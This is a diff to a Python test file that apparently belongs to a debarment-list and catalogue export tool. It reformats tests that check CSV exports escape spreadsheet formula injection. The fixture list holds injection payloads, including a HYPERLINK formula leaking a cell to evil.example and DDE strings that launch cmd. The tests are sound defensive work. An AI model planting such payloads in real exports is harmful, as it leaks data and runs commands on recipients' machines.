@@ -16,9 +16,14 @@ from hgr.debarment import decide, entries_csv, list_entry, notify, open_case, pu
 from hgr.spreadsheets import safe_cell, safe_row
 
 ACTOR = Actor("cli:test", "operator")
-FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0",
-            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-            "\t=1+1", "\r=1+1"]  # fmt: skip
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 @pytest.mark.parametrize("formula", FORMULAS)
@@ -33,12 +38,27 @@ def test_the_published_debarment_list_escapes_what_an_organisation_calls_itself(
     # Before, the CSV carried the name as given, and a spreadsheet ran it.
     today = dt.date(2026, 11, 23)
     with db.transaction() as session:
-        case = open_case(session, ACTOR, organisation=FORMULAS[0], country="GB",
-                         identifiers=["CH:00000666"], regime="uk", ground=FORMULAS[3],
-                         mandatory=True, today=today)  # fmt: skip
+        case = open_case(
+            session,
+            ACTOR,
+            organisation=FORMULAS[0],
+            country="GB",
+            identifiers=["CH:00000666"],
+            regime="uk",
+            ground=FORMULAS[3],
+            mandatory=True,
+            today=today,
+        )
         notify(session, ACTOR, case, today=today)
-        decide(session, ACTOR, case, debar=True, reasons=FORMULAS[1],
-               expected_end=dt.date(2029, 1, 1), today=today)  # fmt: skip
+        decide(
+            session,
+            ACTOR,
+            case,
+            debar=True,
+            reasons=FORMULAS[1],
+            expected_end=dt.date(2029, 1, 1),
+            today=today,
+        )
         list_entry(session, ACTOR, case, today=dt.date(2026, 12, 10))
         rows = public_entries(session, dt.date(2026, 12, 10))
     (row,) = csv.DictReader(io.StringIO(entries_csv(rows)))
@@ -53,10 +73,21 @@ def test_the_catalogue_export_escapes_a_declared_trait_and_population() -> None:
     from hgr.catalogue import entries
     from hgr.catalogue.models import CatalogueEntry
 
-    entry = CatalogueEntry(number="CAT-2026-0001", kind="region", institution="BJ-H001",
-                           province="110000", subject=FORMULAS[3], region="110000",
-                           condition=None, trait=FORMULAS[0], generations=None, affected=None,
-                           status="declared", protected=False, evidence={})  # fmt: skip
+    entry = CatalogueEntry(
+        number="CAT-2026-0001",
+        kind="region",
+        institution="BJ-H001",
+        province="110000",
+        subject=FORMULAS[3],
+        region="110000",
+        condition=None,
+        trait=FORMULAS[0],
+        generations=None,
+        affected=None,
+        status="declared",
+        protected=False,
+        evidence={},
+    )
     (row,) = csv.DictReader(io.StringIO(entries.entries_csv([entry])))
     assert (row["subject"], row["trait"]) == ("'" + FORMULAS[3], "'" + FORMULAS[0])
     assert row["institution"] == "BJ-H001"
